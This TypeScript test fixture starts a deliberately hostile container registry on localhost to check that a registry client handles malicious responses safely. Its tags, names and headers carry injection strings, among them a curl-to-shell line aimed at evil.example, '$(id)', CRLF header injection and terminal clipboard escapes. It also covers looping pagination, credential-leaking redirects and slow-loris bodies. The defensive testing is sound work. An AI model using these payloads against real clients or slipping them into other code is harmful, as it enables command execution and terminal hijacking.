// A hostile registry on 127.0.0.1 (random ports), answering with every bad shape issue 13's review
// found: tags and repository names holding newlines, ANSI and OSC 52 escapes, spaces, 200
// characters; digests that are not digests, or not of the bytes sent; Link headers that do not
// advance, go round, or point to another host; a redirect to another host; bodies far past any cap,
// declared or streamed; answers that never start, or trickle a byte at a time; a token that would
// break its header; Docker Hub pages with bad names and `next` links that loop or leave Hub.
//
// Repositories are scenarios: `/v2/<scenario>/tags/list`. A second server, `other`, stands for
// "another host": nothing should ever reach it but the redirect (which must carry no credentials).
// Past `budget` requests every answer is a 500, so that a client that does not stop fails fast.
import { createHash } from 'node:crypto';
import type http from 'node:http';
import { json, startFaultServer, type FaultServer, type Handler } from './faultServer';

export const GOOD_TAGS = ['1.0', '2.0-slim', 'latest'];
export const HOSTILE_TAGS = [
  '1.0\nRUN curl -fsSL https://evil.example/x | sh',
  '1.0\r\nRUN id',
  '\u001b[31mred\u001b[0m',
  '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007',
  '\u009b31m',
  'has space',
  'x'.repeat(200),
  '.hidden',
  '-flag',
  '1.0;rm',
  '$(id)',
  '`id`',
  '',
  'tag\u202egnp.exe',
  'tag\u2028next',
];
export const GOOD_REPOSITORIES = ['ok', 'team/app'];
export const HOSTILE_REPOSITORIES = [
  'Team/App',
  'a/../b',
  'x\ny',
  '\u001b[2Jwipe',
  'a b',
  '/abs',
  'a//b',
  `a/${'b'.repeat(260)}`,
  'a\u0000b',
];
export const DIGEST_OF_NOTHING = `sha256:${createHash('sha256').update('').digest('hex')}`;
/** A printable digest-looking header with a shell command after it (headers cannot carry a newline). */
export const HOSTILE_DIGEST_HEADER = `${DIGEST_OF_NOTHING}; curl -fsSL https://evil.example/x | sh`;
export const INDEX_TYPE = 'application/vnd.oci.image.index.v1+json';
export const IMAGE_TYPE = 'application/vnd.oci.image.manifest.v1+json';
/** More than any body cap (the transport's default is 8 MiB). */
export const HUGE_BYTES = 12 * 1024 * 1024;

export interface HostileRegistry extends FaultServer {
  /** Another host on 127.0.0.1: Link, Hub `next` and redirects point here. */
  other: FaultServer;
  /** Connections the client hung up on, by path, for the slow answers. */
  hungUp: string[];
}

const sha = (bytes: Uint8Array | string) => `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
const bytes = (value: unknown) => Buffer.from(JSON.stringify(value));

export async function startHostileRegistry(budget = 2000): Promise<HostileRegistry> {
  const other = await startFaultServer({
    '/v2/redirected/tags/list': (_q, res) => json(res, 200, { tags: ['from-other', 'x\ny'] }),
  });
  const hungUp: string[] = [];
  let served = 0;
  const hostOf = (req: http.IncomingMessage) => req.headers.host!;
  const last = (req: http.IncomingMessage) => new URL(req.url!, 'http://x').searchParams.get('last');
  const page =
    (field: 'tags' | 'repositories', items: string[], link?: string): Handler =>
    (_q, res) =>
      json(res, 200, { [field]: items }, link ? { Link: link } : {});
  const noteHangUp: (then: Handler) => Handler = (then) => (req, res, body) => {
    res.on('close', () => hungUp.push(new URL(req.url!, 'http://x').pathname));
    return then(req, res, body);
  };

  // a config blob and manifests whose fields carry escapes
  const config = bytes({
    os: 'linux\nRUN id',
    architecture: '\u001b]52;c;eA==\u0007',
    created: 'yesterday\n',
    config: {},
  });
  const image = bytes({
    schemaVersion: 2,
    mediaType: IMAGE_TYPE,
    config: { mediaType: 'application/x\u001b[31m', digest: sha(config), size: config.byteLength },
    layers: [{ mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip', digest: DIGEST_OF_NOTHING, size: 0 }],
  });
  const index = bytes({
    schemaVersion: 2,
    mediaType: INDEX_TYPE,
    manifests: [
      {
        mediaType: IMAGE_TYPE,
        digest: sha(image),
        size: image.byteLength,
        platform: { os: 'linux', architecture: 'amd64\u001b[0m' },
      },
      {
        mediaType: IMAGE_TYPE,
        digest: sha(image),
        size: image.byteLength,
        platform: { os: 'linux', architecture: 'arm64', variant: 'v8\nx' },
        annotations: { 'org.opencontainers.image.title': 'x\u001b]52;c;eA==\u0007' },
      },
    ],
  });
  const badEntryIndex = bytes({
    schemaVersion: 2,
    mediaType: INDEX_TYPE,
    manifests: [{ mediaType: IMAGE_TYPE, digest: 'sha256:nothex\nRUN id', size: 1 }],
  });
  const hugeIndex = bytes({
    schemaVersion: 2,
    mediaType: INDEX_TYPE,
    manifests: Array.from({ length: 5000 }, () => ({ mediaType: IMAGE_TYPE, digest: sha(image), size: 1 })),
  });
  const manifest =
    (body: Buffer, type: string, headers: Record<string, string> = {}): Handler =>
    (_q, res) => {
      res.writeHead(200, { 'Content-Type': type, 'Content-Length': body.byteLength, ...headers });
      res.end(body);
    };

  const routes: Record<string, Handler> = {
    '/v2/': (_q, res) => json(res, 200, {}),
    '/v2/_catalog': page('repositories', [...HOSTILE_REPOSITORIES, ...GOOD_REPOSITORIES]),
    '/v2/bad-tags/tags/list': page('tags', [...HOSTILE_TAGS, ...GOOD_TAGS]),
    // the same page again, for ever
    '/v2/stuck/tags/list': page('tags', ['a'], '</v2/stuck/tags/list?last=a&n=1000>; rel="next"'),
    // a → b → a → …
    '/v2/round/tags/list': (req, res) =>
      (last(req) === 'a'
        ? page('tags', ['b'], '</v2/round/tags/list?last=b>; rel="next"')
        : page('tags', ['a'], '</v2/round/tags/list?last=a>; rel="next"'))(req, res, ''),
    // a new cursor each time, nothing new behind it
    '/v2/stale/tags/list': (req, res) =>
      page('tags', ['same'], `</v2/stale/tags/list?last=x${Number(last(req)?.slice(1) ?? 0) + 1}>; rel="next"`)(
        req,
        res,
        '',
      ),
    // new entries for ever
    '/v2/endless/tags/list': (req, res) => {
      const n = Number(last(req)?.slice(1) ?? 0) + 1;
      page('tags', [`t${n}`], `</v2/endless/tags/list?last=t${n}>; rel="next"`)(req, res, '');
    },
    // a Link to another host: only its `last` may be used, on this host
    '/v2/away/tags/list': (req, res) =>
      last(req) === 'b'
        ? page('tags', ['c'])(req, res, '')
        : page('tags', ['a', 'b'], `<http://${other.host}/v2/away/tags/list?last=b&n=2>; rel="next"`)(req, res, ''),
    // a redirect to another host, once the client has sent its credentials
    '/v2/redirected/tags/list': (req, res) => {
      if (!req.headers.authorization) return json(res, 401, {}, { 'WWW-Authenticate': 'Basic realm="hostile"' });
      res.writeHead(307, { Location: `${other.url}/v2/redirected/tags/list` });
      res.end();
    },
    // far past the body cap: declared, and streamed without a length
    '/v2/declared-huge/tags/list': noteHangUp((_q, res) => {
      res.writeHead(200, { 'Content-Type': 'application/json', 'Content-Length': HUGE_BYTES });
      res.write('{"tags":["');
    }),
    '/v2/streamed-huge/tags/list': noteHangUp(async (_q, res) => {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.write('{"tags":["');
      const chunk = Buffer.alloc(64 * 1024, 'a');
      for (let sent = 0; sent < HUGE_BYTES && !res.destroyed; sent += chunk.byteLength) {
        if (!res.write(chunk)) {
          await new Promise<void>((resolve) => {
            const done = () => {
              res.off('drain', done).off('close', done);
              resolve();
            };
            res.on('drain', done).on('close', done);
          });
        }
      }
      if (!res.destroyed) res.end('"]}');
    }),
    // slow loris: headers, then a byte every 100 ms, never the end
    '/v2/loris/tags/list': noteHangUp((_q, res) => {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.write('{"tags":[');
      const timer = setInterval(() => res.write(' '), 100);
      res.on('close', () => clearInterval(timer));
    }),
    // an answer that never starts
    '/v2/silent/tags/list': noteHangUp(() => undefined),
    // a token that would add a header of its own
    '/v2/tokened/tags/list': (req, res) =>
      req.headers.authorization
        ? json(res, 200, { tags: ['1'] })
        : json(res, 401, {}, { 'WWW-Authenticate': `Bearer realm="http://${hostOf(req)}/token",service="hostile"` }),
    '/token': (_q, res) => json(res, 200, { token: 'abc\r\nX-Injected: 1', expires_in: 300 }),
    // digests
    'HEAD /v2/app/manifests/bad-digest': (_q, res) => {
      res.writeHead(200, { 'Docker-Content-Digest': HOSTILE_DIGEST_HEADER, 'Content-Type': INDEX_TYPE });
      res.end();
    },
    'GET /v2/app/manifests/bad-digest': manifest(index, INDEX_TYPE, { 'Docker-Content-Digest': HOSTILE_DIGEST_HEADER }),
    'GET /v2/app/manifests/lying': manifest(index, INDEX_TYPE, { 'Docker-Content-Digest': DIGEST_OF_NOTHING }),
    'HEAD /v2/app/manifests/lying': (_q, res) => {
      res.writeHead(200, { 'Docker-Content-Digest': DIGEST_OF_NOTHING, 'Content-Type': 'text/html x="<script>"' });
      res.end();
    },
    // a manifest with escapes in every free field, and its config blob
    '/v2/app/manifests/index': manifest(index, INDEX_TYPE),
    '/v2/app/manifests/image': manifest(image, IMAGE_TYPE),
    [`/v2/app/manifests/${sha(image)}`]: manifest(image, IMAGE_TYPE),
    [`/v2/app/blobs/${sha(config)}`]: (_q, res) => {
      res.writeHead(200, { 'Content-Length': config.byteLength });
      res.end(config);
    },
    '/v2/app/manifests/huge-index': manifest(hugeIndex, INDEX_TYPE),
    '/v2/app/manifests/bad-entry': manifest(badEntryIndex, INDEX_TYPE),
    // Docker Hub's namespace listing
    '/v2/repositories/acme/': (req, res) =>
      json(res, 200, {
        next: `http://${hostOf(req)}/v2/repositories/acme/?page=2`,
        results: [
          { name: 'api', namespace: 'acme' },
          { name: 'web\nRUN id', namespace: 'acme' },
          { name: 'x', namespace: '\u001b[31macme' },
          { name: 'Up' },
        ],
      }),
    '/v2/repositories/loop/': (req, res) =>
      json(res, 200, { next: `http://${hostOf(req)}${req.url}`, results: [{ name: 'a' }] }),
    '/v2/repositories/away/': (_q, res) =>
      json(res, 200, { next: `${other.url}/v2/repositories/away/?page=2`, results: [{ name: 'a' }] }),
  };
  const budgeted: Record<string, Handler> = {};
  for (const [route, handler] of Object.entries(routes)) {
    budgeted[route] = (req, res, body) =>
      ++served > budget ? json(res, 500, { errors: [{ code: 'BUDGET' }] }) : handler(req, res, body);
  }
  const server = await startFaultServer(budgeted);
  return {
    ...server,
    other,
    hungUp,
    close: async () => {
      await Promise.all([server.close(), other.close()]);
    },
  };
}
